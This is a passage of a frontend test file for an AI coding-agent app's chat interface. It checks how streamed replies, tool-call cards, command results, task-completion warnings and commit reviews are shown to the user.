import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { act, cleanup, fireEvent, render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { clearMocks } from "@tauri-apps/api/mocks";
import { App } from "../App";
import { useApp } from "../store";
import { useSession } from "../session";
import { emptyTranscript } from "../transcript";
import type { AgentEvent, ApprovalAnswer, BackgroundTask } from "../bindings";
import {
  engineError,
  entry,
  installFakeBackend,
  sessionInfo,
  settingsView,
  text,
  type Call,
  type FakeAgent,
  type FakeProject,
  type FakeTurn,
} from "./fakeBackend";
import { PLAIN, editRequest, proposed, request, reviewRequest, title, writing } from "./fixtures";
import { APPROVAL_KEY_DELAY_MS } from "../approvalKeys";

const project: FakeProject = {
  startup: { kind: "project", project: { root: "/work/demo", name: "demo", is_git: true, branch: "main" } },
  folders: { "": [entry("src", "dir"), entry("README.md", "file")], src: [entry("src/lib.rs", "file")] },
  files: {
    "README.md": text("README.md", ["# Demo"]),
    "src/lib.rs": text("src/lib.rs", Array.from({ length: 30 }, (_, i) => `line ${i + 1}`)),
  },
};

beforeEach(() => {
  useApp.setState({
    screen: { kind: "loading" },
    folders: {},
    expanded: {},
    selected: null,
    openFile: null,
    recent: [],
    showHidden: false,
    panel: "tasks",
    settings: null,
    settingsError: null,
    settingsOpen: false,
    firstRunSkipped: false,
  });
  useSession.setState({
    root: null,
    sessions: [],
    sessionsLoaded: false,
    sessionsError: null,
    current: null,
    transcript: emptyTranscript(),
    runningSession: null,
    mode: "ask",
    answered: {},
    tasks: [],
    error: null,
    loading: false,
    warnings: [],
    sandbox: null,
  });
});
afterEach(() => {
  cleanup();
  clearMocks();
});

/** Renders the app, sends `message` and hands back the fake turn to drive. */
async function startTurn(agent: FakeAgent = {}, message = "Fix the bug") {
  let turn: FakeTurn | null = null;
  const calls = installFakeBackend(project, { ...agent, onTurn: (t) => (turn = t) });
  const user = userEvent.setup();
  render(<App />);
  const input = await screen.findByTestId("composer-input");
  await user.type(input, message);
  await user.keyboard("{Enter}");
  await waitFor(() => expect(turn).not.toBeNull());
  const t = turn as unknown as FakeTurn;
  const push = (events: AgentEvent[]) => act(() => t.push(events));
  return { calls, user, turn: t, push };
}

/** The person clicks the question once it has been there a moment: its keys answer from then on
 *  (see approvalKeys.test.tsx for when they do not). */
async function chooseCard(user: ReturnType<typeof userEvent.setup>) {
  await act(() => new Promise<void>((resolve) => setTimeout(resolve, APPROVAL_KEY_DELAY_MS + 50)));
  await user.click(screen.getByText("Tandem needs your approval"));
  expect(document.activeElement).toBe(screen.getByTestId("approval-card"));
}

function answers(calls: Call[]): ApprovalAnswer[] {
  return calls
    .filter((c) => c.cmd === "answer_approval")
    .map((c) => (c.payload as { args: { answer: ApprovalAnswer } }).args.answer);
}

const usage = (input: number, output: number, cost: number | null): AgentEvent => ({
  type: "usage",
  usage: { input_tokens: input, output_tokens: output, cache_read_tokens: 0, cache_write_tokens: 0 },
  cost_usd: cost,
});

describe("a turn", () => {
  it("shows how far a model on this computer has read the conversation, until it answers", async () => {
    const { push } = await startTurn();
    push([{ type: "user_message", text: "Fix the bug" }, { type: "step_started", step: 1 }]);
    push([{ type: "prompt_progress", evaluated: 0, total: 4400 }]);
    const reading = await screen.findByTestId("prompt-progress");
    expect(reading).toHaveTextContent("Reading the conversation");
    expect(reading).toHaveTextContent("0 of 4,400 tokens");
    push([{ type: "prompt_progress", evaluated: 2048, total: 4400 }]);
    await waitFor(() => expect(screen.getByTestId("prompt-progress")).toHaveTextContent("2,048 of 4,400 tokens"));
    expect(screen.getByTestId("prompt-progress").querySelector("progress")).toHaveAttribute("value", "2048");
    push([{ type: "prompt_progress", evaluated: 4400, total: 4400 }, { type: "text_delta", text: "Looking" }]);
    await waitFor(() => expect(screen.queryByTestId("prompt-progress")).toBeNull());
    expect(screen.getByTestId("message-assistant")).toHaveTextContent("Looking");
  });

  it("shows the call being written under the text, and the card once it is proposed", async () => {
    const { push } = await startTurn();
    push([{ type: "user_message", text: "Fix the bug" }, { type: "step_started", step: 1 }, { type: "text_delta", text: "I will edit it." }]);
    expect(await screen.findByTestId("message-assistant")).toHaveTextContent("I will edit it.");
    push([writing("edit_file", "Edit a file", 0)]);
    expect(await screen.findByTestId("writing-call")).toHaveTextContent("Preparing: Edit a file");
    push([writing("edit_file", "Edit a file", 1234)]);
    await waitFor(() => expect(screen.getByTestId("writing-call")).toHaveTextContent("1,234 characters written"));
    // A server's tool: named by the words Rust sent, whatever its name.
    push([writing("files__write", "Write (files)", 10)]);
    await waitFor(() => expect(screen.getByTestId("writing-call")).toHaveTextContent("Preparing: Write (files) · 10 characters written"));
    push([writing("edit_file", "Edit a file", 1300)]);
    push([
      {
        type: "assistant_message",
        message: {
          role: "assistant",
          content: [
            { type: "text", text: "I will edit it." },
            { type: "tool_use", id: "t1", name: "edit_file", input: { path: "calc.py", old_string: "-", new_string: "+" } },
          ],
        },
      },
      proposed("t1", "edit_file", { path: "calc.py", old_string: "-", new_string: "+" }, "Edit calc.py"),
    ]);
    await waitFor(() => expect(screen.queryByTestId("writing-call")).toBeNull());
    expect(screen.getByTestId("message-assistant")).toHaveTextContent("I will edit it.");
  });

  it("creates the session, streams text progressively and finalises it once", async () => {
    const { calls, push, turn } = await startTurn();
    const create = calls.find((c) => c.cmd === "create_session");
    expect((create?.payload as { args: unknown }).args).toEqual({ root: "/work/demo", task: "Fix the bug" });
    const send = calls.find((c) => c.cmd === "send_message");
    expect(turn.args).toEqual({ session: "new-1", text: "Fix the bug", mode: "ask" });
    expect((send?.payload as { onEvent: unknown }).onEvent).toBeDefined();
    expect(screen.getByTestId("send-button")).toBeDisabled();
    expect(screen.getByTestId("stop-button")).toBeEnabled();
    expect(screen.getByTestId("composer-input")).toHaveValue("");

    push([{ type: "user_message", text: "Fix the bug" }, { type: "step_started", step: 1 }, { type: "text_delta", text: "Looking " }]);
    expect(await screen.findByTestId("message-user")).toHaveTextContent("Fix the bug");
    expect(screen.getByTestId("message-assistant")).toHaveTextContent("Looking");
    push([{ type: "text_delta", text: "at **it**" }]);
    await waitFor(() => expect(screen.getByTestId("message-assistant")).toHaveTextContent("Looking at it"));
    expect(screen.getByTestId("message-assistant").querySelector("strong")).toHaveTextContent("it");

    push([
      usage(1200, 300, 0.0123),
      {
        type: "assistant_message",
        message: {
          role: "assistant",
          content: [
            { type: "text", text: "Looking at it. Here:\n\n```rust\nfn main() {}\n```" },
            { type: "tool_use", id: "t1", name: "run_command", input: { command: "cargo test" } },
          ],
        },
      },
      proposed("t1", "run_command", { command: "cargo test" }, title("Run ", { code: "cargo test" })),
    ]);
    await waitFor(() => expect(screen.getAllByTestId("message-assistant")).toHaveLength(1));
    const assistant = screen.getByTestId("message-assistant");
    expect(assistant).toHaveTextContent("Looking at it. Here:");
    expect(assistant.textContent?.match(/Looking at it/g)).toHaveLength(1);
    const code = within(assistant).getByTestId("code-block");
    expect(code).toHaveAttribute("data-lang", "rust");
    expect(code).toHaveTextContent("fn main() {}");
    const card = screen.getByTestId("tool-card");
    // The command is set as code, never printed between backticks.
    expect(card).toHaveTextContent("Run cargo test");
    expect(card.textContent).not.toContain("`");
    expect(card.querySelector(".tool-title code")).toHaveTextContent(/^cargo test$/);
    expect(card).toHaveAttribute("data-status", "running");
    expect(screen.getByTestId("cost-turn")).toHaveTextContent("1.2k in · 300 out · $0.01");

    push([
      { type: "tool_finished", id: "t1", name: "run_command", output: "\x1b[32mok\x1b[0m 3 passed", is_error: false },
      { type: "turn_ended", outcome: { kind: "ended" } },
    ]);
    await waitFor(() => expect(screen.getByTestId("tool-card")).toHaveAttribute("data-status", "done"));
    const green = within(screen.getByTestId("tool-card")).getByText("ok");
    expect(green.style.color).toBe("var(--ansi-green)");
    act(() => turn.end({ kind: "ended" }));
    await waitFor(() => expect(screen.getByTestId("stop-button")).toBeDisabled());
    // The list is refreshed after the turn.
    expect(calls.filter((c) => c.cmd === "list_sessions").length).toBeGreaterThanOrEqual(2);
  });

  it("shows a failed command in red with its exit code, and a background one as still running until it ends", async () => {
    const bg: BackgroundTask[] = [
      { id: "task-2", kind: "command", title: "npm run dev", running: true, state: "running", runtime_ms: 0, output_tail: "", changes_waiting: false, changes_so_far: 0 },
    ];
    const { push } = await startTurn({ tasks: bg });
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("t1", "run_command", { command: "python3 -m pytest" }, title("Run ", { code: "python3 -m pytest" })),
      {
        type: "tool_finished",
        id: "t1",
        name: "run_command",
        output: "1 failed\n[exit code 1; 0.4 s]",
        is_error: false,
        outcome: "failed",
        confinement: { kind: "sandboxed", network: false, read_only: false },
        exit_code: 1,
      },
      proposed("t2", "run_command", { command: "npm run dev", background: true }, title("Run ", { code: "npm run dev" }, " in the background")),
      { type: "tool_finished", id: "t2", name: "run_command", output: "The command is now background task task-2", is_error: false, outcome: "background", task: "task-2" },
      proposed("t3", "run_command", { command: "ls" }, title("Run ", { code: "ls" })),
      { type: "tool_finished", id: "t3", name: "run_command", output: "a\n[exit code 0]", is_error: false, outcome: "ok", exit_code: 0 },
    ]);
    await waitFor(() => expect(screen.getAllByTestId("tool-card")).toHaveLength(3));
    const [failed, background, done] = screen.getAllByTestId("tool-card");
    expect(failed).toHaveAttribute("data-kind", "failed");
    expect(within(failed!).getByTestId("tool-status")).toHaveTextContent("Failed · exit code 1");
    expect(failed!.querySelector(".tool-icon")).toHaveClass("failed");
    expect(background).toHaveAttribute("data-kind", "background");
    expect(within(background!).getByTestId("tool-status")).toHaveTextContent("Running in the background");
    expect(background!.querySelector(".tool-icon")).not.toHaveClass("done");
    expect(done).toHaveAttribute("data-kind", "done");
    expect(within(done!).getByTestId("tool-status")).toHaveTextContent("Done");
    // It ends later (the Tasks tab is not open): its card says how, in the task list's words.
    bg.splice(0, 1, { ...bg[0]!, running: false, state: "exited with code 1" });
    await waitFor(
      () => expect(within(background!).getByTestId("tool-status")).toHaveTextContent("Ended in the background · exited with code 1"),
      { timeout: 3000 },
    );
  });

  it("shows a running command's output live on its card, until it ends", async () => {
    const bg: BackgroundTask[] = [
      { id: "task-5", kind: "command", title: "cargo build", running: true, state: "running", runtime_ms: 0, output_tail: "compiling 1\n", changes_waiting: false, changes_so_far: 0 },
    ];
    const { push } = await startTurn({ tasks: bg });
    push([
      { type: "user_message", text: "Build it" },
      proposed("t1", "run_command", { command: "cargo build" }, title("Run ", { code: "cargo build" })),
      { type: "command_started", id: "t1", task: "task-5" },
    ]);
    const live = await screen.findByTestId("tool-live-output");
    expect(live).toHaveTextContent("compiling 1");
    bg.splice(0, 1, { ...bg[0]!, output_tail: "compiling 1\ncompiling 2\n" });
    await waitFor(() => expect(screen.getByTestId("tool-live-output")).toHaveTextContent("compiling 2"), { timeout: 3000 });
    push([{ type: "tool_finished", id: "t1", name: "run_command", output: "compiling 1\ncompiling 2\n[exit code 0; 2.0 s]", is_error: false, outcome: "ok", exit_code: 0 }]);
    await waitFor(() => expect(screen.queryByTestId("tool-live-output")).toBeNull());
  });

  it("says what each call came to in words, with the text the model got folded under Details", async () => {
    const { push, user } = await startTurn();
    const modelText = "3 passed\n[exit code 0; 0.2 s; full output: /s/outputs/task-1.log]\n";
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("t1", "run_command", { command: "python3 -m unittest" }, title("Run ", { code: "python3 -m unittest" })),
      {
        type: "tool_finished",
        id: "t1",
        name: "run_command",
        output: modelText,
        is_error: false,
        outcome: "ok",
        exit_code: 0,
        summary: { kind: "command_ran", exit_code: 0, timed_out: false, duration_ms: 200, output: "3 passed\n", cut: false },
      },
      proposed("t2", "edit_file", { path: "calc.py" }, "Edit calc.py"),
      {
        type: "tool_finished",
        id: "t2",
        name: "edit_file",
        output: "The user applied hunks [0] of 2 to calc.py and rejected hunks [1] (numbered from 0, in file order).",
        is_error: false,
        outcome: "ok",
        summary: { kind: "changes_kept", path: "calc.py", kept: 1, total: 2 },
      },
      proposed("t3", "spawn_subagent", { title: "Fix the parser", description: "…" }, "Hand work to a helper: Fix the parser"),
      {
        type: "tool_finished",
        id: "t3",
        name: "spawn_subagent",
        output: "Sub-agent a1 (Fix the parser) finished: ok\nThe role `coder` has no model of its own in the settings, so it used the default one.\n",
        is_error: false,
        outcome: "ok",
        summary: { kind: "helper_reported", name: "Fix the parser", finished: true, files_changed: 1 },
      },
    ]);
    await waitFor(() => expect(screen.getAllByTestId("tool-card")).toHaveLength(3));
    const [command, edit, helper] = screen.getAllByTestId("tool-card");
    // The command: its exit code and time in words, and what it printed — not the model's notes.
    expect(within(command!).getByTestId("tool-summary")).toHaveTextContent("Exit code 0 · 0.2 s");
    expect(within(command!).getByTestId("tool-command-output")).toHaveTextContent("3 passed");
    const details = within(command!).getByTestId("tool-details");
    expect(details).not.toHaveAttribute("open");
    expect(details).toHaveTextContent("full output: /s/outputs/task-1.log");
    expect(within(command!).getByTestId("tool-command-output")).not.toHaveTextContent("exit code");
    // The partly kept edit: no "hunks [0] … numbered from 0" in sight.
    expect(within(edit!).getByTestId("tool-summary")).toHaveTextContent("You kept 1 of 2 changes");
    expect(within(edit!).queryByTestId("tool-result")).toBeNull();
    // A helper: named in words, and what it came to; the note for the model waits under Details.
    expect(helper).toHaveTextContent("Hand work to a helper: Fix the parser");
    expect(within(helper!).getByTestId("tool-summary")).toHaveTextContent("The helper finished; it changed 1 file");
    expect(helper).not.toHaveTextContent("has no model of its own");
    await user.click(helper!.querySelector("button.tool-header")!);
    expect(within(helper!).getByTestId("tool-details")).toHaveTextContent("has no model of its own");
  });

  it("shows what a command changed on its card, deletions first, with what did not land and why", async () => {
    const { push, user } = await startTurn();
    push([
      { type: "user_message", text: "Run the tests" },
      proposed("t1", "run_command", { command: "make test" }, title("Run ", { code: "make test" })),
      {
        type: "tool_finished",
        id: "t1",
        name: "run_command",
        output: "ok\n[exit code 0; 0.4 s]\n",
        is_error: false,
        outcome: "ok",
        exit_code: 0,
        summary: {
          kind: "command_ran",
          exit_code: 0,
          timed_out: false,
          duration_ms: 400,
          output: "ok\n",
          cut: false,
          changes: {
            files: [
              { path: "docs/guide.md", change: "deleted", item: "file", class: { kind: "project" }, fate: { kind: "landed" } },
              { path: "calc.py", change: "modified", item: "file", class: { kind: "project" }, fate: { kind: "landed" }, lines: { added: 3, removed: 1 } },
              { path: "notes.txt", change: "modified", item: "file", class: { kind: "project" }, fate: { kind: "conflict" } },
              {
                path: "report.py",
                change: "modified",
                item: "file",
                class: { kind: "project" },
                fate: { kind: "landed" },
                lines: { added: 1, removed: 1 },
                merged: true,
              },
              {
                path: ".vscode",
                change: "created",
                item: "folder",
                class: { kind: "runs_code", why: "editor" },
                fate: { kind: "refused" },
              },
            ],
            ignored: [{ path: "node_modules/", added: 1204, modified: 0, deleted: 0, landed: true }],
          },
        },
      },
    ]);
    const card = await screen.findByTestId("tool-card");
    const rows = within(card).getAllByTestId("command-change");
    expect(rows.map((r) => r.textContent)).toEqual([
      expect.stringContaining("docs/guide.md"),
      expect.stringContaining("calc.py"),
      expect.stringContaining("notes.txt"),
      expect.stringContaining("report.py"),
      expect.stringContaining(".vscode"),
    ]);
    expect(rows[0]).toHaveTextContent("deleted");
    expect(rows[1]).toHaveTextContent("+3−1");
    expect(rows[2]).toHaveAttribute("data-fate", "conflict");
    expect(rows[2]).toHaveTextContent("kept yours");
    // Landed over the person's own edits of other lines: said so, as merged.
    expect(rows[3]).toHaveAttribute("data-fate", "landed");
    expect(within(rows[3]!).getByTestId("command-merged")).toHaveTextContent("merged with your edits");
    expect(rows[4]).toHaveTextContent("not landed");
    const why = within(card).getAllByTestId("command-why");
    expect(why.map((w) => w.textContent)).toEqual([
      "Not landed: you changed the same lines while the command ran, and your work is never overwritten.",
      "Not landed: VS Code runs what it names when the folder is opened.",
    ]);
    expect(within(card).getByTestId("command-ignored")).toHaveTextContent("node_modules/: 1,204 files added (ignored by git)");
    // A landed file's diff is a click away, in the Changes panel.
    await user.click(rows[1]!);
    expect(useApp.getState().panel).toBe("changes");
    expect(useApp.getState().changesFocus).toBe("calc.py");
  });

  // Issue 46: a command's description was on its approval card only; a background command's
  // card lost its command to a long summary.
  it("names a command on its card with what it is for", async () => {
    const { push } = await startTurn();
    push([
      { type: "user_message", text: "Generate the report" },
      proposed(
        "g1",
        "run_command",
        { command: "python3 gen.py", description: "Generate report.txt from the data" },
        title("Run ", { code: "python3 gen.py" }),
      ),
      { type: "tool_finished", id: "g1", name: "run_command", output: "done", is_error: false, outcome: "ok" },
    ]);
    const card = await screen.findByTestId("tool-card");
    expect(within(card).getByTestId("tool-description")).toHaveTextContent("Generate report.txt from the data");
    expect(card.querySelector(".tool-title")).toHaveTextContent("Run python3 gen.py");
  });

  // Issue 46: the loop guard showed a red "Read calc.py · Failed" with words written for the model.
  it("shows a call Tandem stopped as a repeat as a quiet line in people's words, the model's under Details", async () => {
    const { push } = await startTurn();
    push([
      { type: "user_message", text: "What does calc.py do?" },
      proposed("r3", "read_file", { path: "calc.py" }, title("Read ", { code: "calc.py" })),
      {
        type: "tool_finished",
        id: "r3",
        name: "read_file",
        output: "You have called read_file with the same arguments 3 times in a row. The task is paused for the user; try a different approach.",
        is_error: true,
        outcome: "repeated",
        summary: { kind: "repeated", paused: true },
      },
      {
        type: "turn_ended",
        outcome: { kind: "paused", reason: "Tandem stopped a repeated step: Read calc.py again (3 times in a row, after one step back)" },
      },
    ]);
    const quiet = await screen.findByTestId("tool-repeated");
    // The turn's end in the same words: the tool's name reached the person there too.
    const ended = await screen.findByTestId("turn-outcome");
    expect(ended).toHaveAttribute("data-kind", "paused");
    expect(ended).toHaveTextContent("Tandem stopped a repeated step: Read calc.py again");
    expect(ended).not.toHaveTextContent("read_file");
    expect(within(quiet).getByTestId("tool-repeated-words")).toHaveTextContent(
      "Tandem stopped a repeated step: Read calc.py again — the agent went round in circles, so the task is paused: tell it how to go on.",
    );
    expect(within(quiet).getByTestId("tool-repeated-words")).not.toHaveTextContent("You have called");
    expect(within(quiet).getByTestId("tool-details")).toHaveTextContent("You have called read_file");
    expect(screen.queryAllByTestId("tool-card")).toHaveLength(0);
  });

  it("sets a command in a pause's reason as code, without its backticks", async () => {
    const { push } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      { type: "turn_ended", outcome: { kind: "paused", reason: "`python3 -m unittest` still fails after 3 tries at rewriting the file" } },
    ]);
    const ended = await screen.findByTestId("turn-outcome");
    expect(ended).not.toHaveTextContent("`");
    expect(ended.querySelector("code")).toHaveTextContent("python3 -m unittest");
  });

  it("shows a task_done the engine sent back as a quiet line, and the end of a task as one block", async () => {
    const { push } = await startTurn();
    const warnings = [{ kind: "check_failed" as const, command: "python3 -m unittest", exit_code: 1 }];
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("d1", "task_done", { summary: "All tests pass." }, "Finish: All tests pass."),
      {
        type: "tool_finished",
        id: "d1",
        name: "task_done",
        output: "Not finished yet, because of what happened in this task:\n- … Then call task_done again.",
        is_error: true,
        outcome: "sent_back",
        summary: { kind: "sent_back", warnings },
      },
      proposed("d2", "task_done", { summary: "The test still fails." }, "Finish: The test still fails."),
      { type: "tool_finished", id: "d2", name: "task_done", output: "Task complete: The test still fails.", is_error: false, outcome: "ok" },
      { type: "done", summary: "The test still fails.", warnings },
      { type: "turn_ended", outcome: { kind: "done", summary: "The test still fails." } },
    ]);
    const quiet = await screen.findByTestId("tool-sent-back");
    expect(quiet).toHaveTextContent("Not finished yet: the last check (python3 -m unittest) failed with exit code 1. The agent goes on.");
    expect(within(quiet).getByTestId("tool-sent-back-words")).not.toHaveTextContent("call task_done again");
    expect(within(quiet).getByTestId("tool-details")).toHaveTextContent("call task_done again");
    // Neither card is a red "Failed"; the accepted task_done and the end are one block.
    expect(screen.queryAllByTestId("tool-card")).toHaveLength(0);
    expect(screen.getAllByTestId("done-summary")).toHaveLength(1);
    expect(screen.queryByTestId("turn-outcome")).toBeNull();
  });

  it("marks a task_done the engine found contradicted, and keeps the green check otherwise", async () => {
    const { push } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      {
        type: "done",
        summary: "Edited calc.py; the tests pass.",
        warnings: [
          { kind: "edit_rejected", path: "calc.py" },
          { kind: "file_unchanged", path: "notes.txt" },
          { kind: "check_failed", command: "python3 -m pytest", exit_code: 1 },
          { kind: "check_not_run", command: "bash test.sh" },
        ],
      },
    ]);
    const summary = await screen.findByTestId("done-summary");
    expect(summary).toHaveAttribute("data-kind", "warning");
    expect(summary).not.toHaveTextContent("✓");
    const warnings = within(summary).getAllByTestId("done-warning");
    expect(warnings.map((w) => w.getAttribute("data-kind"))).toEqual(["edit_rejected", "file_unchanged", "check_failed", "check_not_run"]);
    expect(warnings[0]).toHaveTextContent("calc.py is unchanged: you rejected its edit.");
    expect(warnings[2]).toHaveTextContent("The last check failed: python3 -m pytest ended with exit code 1.");
    expect(warnings[3]).toHaveTextContent("The check the task asked for did not run after the last change: bash test.sh");
    expect(summary).toHaveTextContent("Edited calc.py; the tests pass.");
    push([{ type: "user_message", text: "again" }, { type: "done", summary: "All good." }]);
    await waitFor(() => expect(screen.getAllByTestId("done-summary")).toHaveLength(2));
    const plain = screen.getAllByTestId("done-summary")[1]!;
    expect(plain).toHaveAttribute("data-kind", "done");
    expect(plain).toHaveTextContent("✓ Task done");
  });

  // Issue 46: a denied command and an edit kept in part ended in a green "Task done".
  it("never ends green over what the person said no to, and names it", async () => {
    const { push } = await startTurn();
    push([
      { type: "user_message", text: "Generate the report" },
      {
        type: "done",
        summary: "Generated report.txt and edited calc.py in two places.",
        warnings: [
          { kind: "file_missing", path: "report.txt" },
          { kind: "command_denied", command: "python3 gen.py" },
          { kind: "edit_partly_kept", path: "calc.py", kept: 1, total: 2 },
          { kind: "changes_rejected", command: "make docs", paths: ["docs/a.md", "docs/b.md", "docs/c.md", "docs/d.md"] },
          { kind: "call_denied", title: "Fetch https://example.com" },
        ],
      },
    ]);
    const summary = await screen.findByTestId("done-summary");
    expect(summary).toHaveAttribute("data-kind", "warning");
    expect(summary).not.toHaveTextContent("✓");
    const warnings = within(summary).getAllByTestId("done-warning");
    expect(warnings.map((w) => w.textContent)).toEqual([
      "report.txt is listed as changed, but it does not exist.",
      "You denied python3 gen.py: it did not run.",
      "You kept 1 of 2 changes to calc.py.",
      "You rejected what make docs did to docs/a.md, docs/b.md, docs/c.md and 1 more: it did not land.",
      "You said no to: Fetch https://example.com.",
    ]);
  });

  // Issue 46, item 7: a picture the agent looked at said only "Looked at a file that is not
  // text". It is shown small on the card, and opens whole.
  it("shows a picture the agent looked at as a thumbnail on its card", async () => {
    project.files["shot.png"] = { kind: "image", path: "shot.png", mime: "image/png", size: 68, data_base64: "iVBORw0KGgo=" };
    try {
      const { push, user } = await startTurn();
      push([
        { type: "user_message", text: "Fix the bug" },
        proposed("i", "read_file", { path: "shot.png" }, "Read shot.png"),
        { type: "tool_finished", id: "i", name: "read_file", output: "An image.", is_error: false, summary: { kind: "file_seen", path: "shot.png" } },
      ]);
      const thumb = await screen.findByTestId("tool-thumbnail", {}, { timeout: 4000 });
      const img = thumb.querySelector("img")!;
      expect(img.getAttribute("src")).toBe("data:image/png;base64,iVBORw0KGgo=");
      expect(img).toHaveAttribute("alt", "shot.png, the picture the agent looked at");
      await user.click(thumb);
    } finally {
      delete project.files["shot.png"];
    }
  });

  // Issue 46, item 7: a picture the agent fetched said only "Fetched the page". The session's
  // saved copy (what the model saw) is shown on the card; a click opens its address in the
  // browser, never in the window.
  it("shows a picture the agent fetched as a thumbnail, read from the session's saved copy", async () => {
    const { push, user, calls } = await startTurn({
      fetched: { "picture-4.png": { kind: "image", path: "picture-4.png", mime: "image/png", size: 68, data_base64: "iVBORw0KGgo=" } },
    });
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("f", "web_fetch", { url: "https://example.com/chart.png" }, "Fetch https://example.com/chart.png"),
      {
        type: "tool_finished",
        id: "f",
        name: "web_fetch",
        output: "(an image: image/png, 68 B)",
        is_error: false,
        summary: { kind: "page_fetched", url: "https://example.com/chart.png", status: 200, picture: "picture-4.png" },
      },
    ]);
    const thumb = await screen.findByTestId("tool-thumbnail", {}, { timeout: 4000 });
    expect(thumb.querySelector("img")!.getAttribute("src")).toBe("data:image/png;base64,iVBORw0KGgo=");
    expect(thumb.querySelector("img")).toHaveAttribute("alt", "The picture the agent fetched from https://example.com/chart.png");
    expect(screen.getByTestId("tool-summary")).toHaveTextContent("Fetched a picture");
    const asked = calls.find((c) => c.cmd === "fetched_picture")?.payload as { args: { session: string; name: string } };
    expect(asked.args.name).toBe("picture-4.png");
    expect(asked.args.session).toBe("new-1");
    await user.click(thumb);
    await waitFor(() => expect(calls.some((c) => c.cmd === "plugin:opener|open_url")).toBe(true));
    expect(calls.find((c) => c.cmd === "plugin:opener|open_url")?.payload).toMatchObject({ url: "https://example.com/chart.png" });
  });

  // Issue 46, item 8: "Stopped at the step limit…" was reported twice. The turn's end comes as
  // an event and again as the command's answer: it is said once.
  it("says once that the turn stopped at the step limit", async () => {
    const { push, turn } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("s", "read_file", { path: "calc.py" }, "Read calc.py"),
      { type: "tool_finished", id: "s", name: "read_file", output: "1\tx = 1", is_error: false },
      { type: "turn_ended", outcome: { kind: "step_limit" } },
    ]);
    await act(async () => turn.end({ kind: "step_limit" }));
    await screen.findByText(/Stopped at the step limit/);
    await act(() => new Promise<void>((resolve) => setTimeout(resolve, 100)));
    expect(screen.getAllByText(/step limit/)).toHaveLength(1);
  });

  // The same, the other way round: the command's answer can come before the turn_ended event
  // (Rust waits only so long for the events to be sent). The late event must not say it again.
  it("says once that the turn stopped at the step limit when the answer comes before the event", async () => {
    const { push, turn } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("s", "read_file", { path: "calc.py" }, "Read calc.py"),
      { type: "tool_finished", id: "s", name: "read_file", output: "1\tx = 1", is_error: false },
    ]);
    await act(async () => turn.end({ kind: "step_limit" }));
    await screen.findByText(/Stopped at the step limit/);
    push([{ type: "turn_ended", outcome: { kind: "step_limit" } }]);
    await act(() => new Promise<void>((resolve) => setTimeout(resolve, 100)));
    expect(screen.getAllByText(/step limit/)).toHaveLength(1);
  });

  // The answer first again, for a task that ended done: the late events bring the summary with
  // what the engine found wrong, and it is shown once, as the end of the task, with those words.
  it("shows a task's end once when the answer comes before its done event", async () => {
    const { push, turn } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("d", "task_done", { summary: "Fixed it." }, "Finish: Fixed it."),
      { type: "tool_finished", id: "d", name: "task_done", output: "Task complete: Fixed it.", is_error: false, outcome: "ok" },
    ]);
    await act(async () => turn.end({ kind: "done", summary: "Fixed it." }));
    await screen.findByTestId("done-summary");
    push([
      { type: "done", summary: "Fixed it.", warnings: [{ kind: "check_not_run", command: "bash test.sh" }] },
      { type: "turn_ended", outcome: { kind: "done", summary: "Fixed it." } },
    ]);
    await waitFor(() => expect(screen.getByTestId("done-summary")).toHaveAttribute("data-kind", "warning"));
    expect(screen.getAllByTestId("done-summary")).toHaveLength(1);
    expect(screen.queryAllByTestId("tool-card")).toHaveLength(0);
  });

  // And for a turn that failed: the late error event says what the answer said already.
  it("shows a failed turn's error once when the answer comes before the error event", async () => {
    const { push, turn } = await startTurn();
    const error = engineError("unreachable", "Connection refused");
    push([{ type: "user_message", text: "Fix the bug" }]);
    await act(async () => turn.end({ kind: "failed", error }));
    await screen.findByTestId("transcript-error");
    push([{ type: "error", error }, { type: "turn_ended", outcome: { kind: "failed", error } }]);
    await act(() => new Promise<void>((resolve) => setTimeout(resolve, 100)));
    expect(screen.getAllByTestId("transcript-error")).toHaveLength(1);
    expect(screen.getAllByTestId("retry-button")).toHaveLength(1);
  });

  // Issue 46, item 7: approving a commit was blind (the card showed its JSON). The card lists
  // the files with their diffs and warns about a change the person never saw in Tandem.
  it("shows a commit's files and diffs on its card, and warns about a change not seen", async () => {
    const { push, user } = await startTurn();
    push([
      { type: "user_message", text: "Fix the bug" },
      proposed("c", "git_commit", { message: "Say two" }, "Commit: Say two"),
      {
        type: "approval_needed",
        request: request("c", {
          tool: "git_commit",
          input: { message: "Say two" },
          command: null,
          commands: [],
          confinement: null,
          title: title("Commit: Say two"),
          words: "Commit",
          commit: {
            message: "Say two",
            files: [
              { path: "a.txt", change: "modified", added: 1, removed: 1, diff: "@@ -1,1 +1,1 @@\n-one\n+two\n", seen: true, secret: false },
              { path: "notes/b.txt", change: "added", added: 2, removed: 0, diff: "@@ -0,0 +1,2 @@\n+bee\n+hive\n", seen: false, secret: false },
              { path: ".env", change: "modified", added: 0, removed: 0, diff: "", seen: true, secret: true },
            ],
            more: 0,
          },
        }),
      },
    ]);
    const card = await screen.findByTestId("commit-review");
    expect(within(card).getByTestId("commit-message")).toHaveTextContent("Say two");
    const files = within(card).getAllByTestId("commit-file");
    // The change the person never saw comes first.
    expect(files.map((f) => f.getAttribute("data-seen"))).toEqual(["false", "true", "true"]);
    // A secret's content is never on the card; it says why.
    expect(within(files[2]!).getByTestId("commit-secret")).toHaveTextContent("its content is not shown here");
    expect(files[1]).toHaveTextContent("a.txt changed +1 −1");
    expect(within(files[0]!).getByTestId("commit-unseen")).toHaveTextContent("not seen in Tandem");
    expect(within(card).getByTestId("commit-unseen-warning")).toHaveTextContent("1 file in this commit changed where you did not see it in Tandem");
    const diffs = within(card).getAllByTestId("commit-file-diff");
    expect(diffs[0]).toHaveTextContent("+hive");
    expect(card.querySelector(".diff-add")).not.toBeNull();
    // Not the call's JSON.
    expect(screen.queryByText(/"message": "Say two"/)).toBeNull();
    expect(screen.getByTestId("approve-button")).toBeEnabled();
    void user;
  });

